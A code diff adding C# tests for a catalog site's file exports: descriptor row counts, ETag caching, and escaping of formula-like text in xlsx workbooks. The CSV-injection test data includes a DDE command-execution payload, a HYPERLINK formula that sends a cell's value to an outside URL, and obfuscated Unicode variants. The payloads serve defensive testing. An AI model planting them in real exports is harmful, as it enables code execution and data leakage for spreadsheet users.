@@ -165,9 +165,61 @@ public sealed class VersionFileTests(CatalogSite site)
         Assert.Equal($"\"{Convert.ToHexStringLower(hash)}\"", whole.Headers.ETag!.ToString());
         Assert.Equal(bytes[2..6], await part.Content.ReadAsByteArrayAsync(CatalogSite.Ct));
         Assert.Equal("attachment", whole.Content.Headers.ContentDisposition!.DispositionType);
-        if (!file.EndsWith("zip", StringComparison.Ordinal))
-            Assert.Equal("3", head.Headers.GetValues("X-Row-Count").Single());
+        Assert.Equal("3", head.Headers.GetValues("X-Row-Count").Single());
     }
+
+    [Fact]
+    public async Task A_descriptor_has_a_tag_and_says_how_many_rows_there_are()
+    {
+        var at = await HasTableAsync("forms-tag", rows: Rows);
+        using var answer = await SendAsync(HttpMethod.Get, $"{at}/datapackage.json");
+        using var again = await SendAsync(HttpMethod.Get, $"{at}/datapackage.json", request => request.Headers.IfNoneMatch.Add(answer.Headers.ETag!));
+
+        Assert.Equal(3, (int)JsonNode.Parse(await answer.Content.ReadAsStringAsync(CatalogSite.Ct))!["resources"]![0]!["rows"]!);
+        Assert.Equal(HttpStatusCode.NotModified, again.StatusCode);
+    }
+
+    /// <summary>OWASP, CSV injection: also in wide forms, and behind what is not seen. What a reader of the workbook takes for an escape stays what it was.</summary>
+    [Theory]
+    [InlineData("=1+1")]
+    [InlineData("+1+1")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(A1)")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    [InlineData("\n=1+1")]
+    [InlineData("\uFF1D1+1")]
+    [InlineData("\uFF0B1+1")]
+    [InlineData("\uFF0D1+1")]
+    [InlineData("\uFF20SUM(A1)")]
+    [InlineData(" =1+1")]
+    [InlineData("\uFEFF=1+1")]
+    [InlineData("\u00A0\u200B=1+1")]
+    [InlineData("=HYPERLINK(\"http://example.org/?\"&A1,\"x\")")]
+    [InlineData("=cmd|' /C calc'!A0")]
+    [InlineData("'=1+1", "'=1+1")]
+    [InlineData("a=1+1", "a=1+1")]
+    [InlineData("", "")]
+    [InlineData("_x003D_1+1", "_x003D_1+1")]
+    [InlineData("_x000D_", "_x000D_")]
+    [InlineData("</v></c><f>1+1</f>", "</v></c><f>1+1</f>")]
+    public async Task A_text_that_a_spreadsheet_might_run_has_an_apostrophe_before_it(string text, string? read = null)
+    {
+        var at = await HasTableAsync($"forms-hostile-{Guid.NewGuid():n}", rows: [["1", text, null, null, null, null, null]]);
+        var workbook = await BytesAsync($"{at}/values.xlsx");
+        using var stream = new MemoryStream(workbook);
+
+        var (type, value) = Cells(workbook)[1][1];
+
+        Assert.Equal("str", type);
+        Assert.StartsWith(read is null ? "'" : read, value.Replace("_x005F_x", "_x", StringComparison.Ordinal), StringComparison.Ordinal);
+        // As Excel reads it: by another reader than the one who wrote it.
+        Assert.Equal((read ?? "'" + text).ReplaceLineEndings("\n"), Unescaped(value).ReplaceLineEndings("\n"));
+    }
+
+    /// <summary>ECMA-376, 22.9.2.19: a character as its number between underscores.</summary>
+    private static string Unescaped(string text) =>
+        System.Text.RegularExpressions.Regex.Replace(text, "_x([0-9A-Fa-f]{4})_", match => ((char)Convert.ToInt32(match.Groups[1].Value, 16)).ToString());
 
     [Theory]
     [InlineData("gzip")]
